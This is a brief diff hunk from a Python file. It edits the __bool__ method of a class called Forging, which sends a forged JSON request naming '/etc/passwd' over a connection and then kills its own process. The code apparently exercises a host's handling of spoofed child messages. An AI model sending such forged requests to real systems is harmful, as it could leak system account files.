@@ -224,7 +224,7 @@ class Forging:
     """True; whoever asks gets a forged answer, and the process ends."""
 
     def __bool__(self) -> bool:
-        link().sendall(b'{"needs_determinizer": 1, "needs_view": 1, "source": "/etc/passwd"}\n')
+        link().sendall(b'{"needs_determinizer": 1, "needs_view": 1, "files": ["/etc/passwd"]}\n')
         os._exit(0)
         return True
 
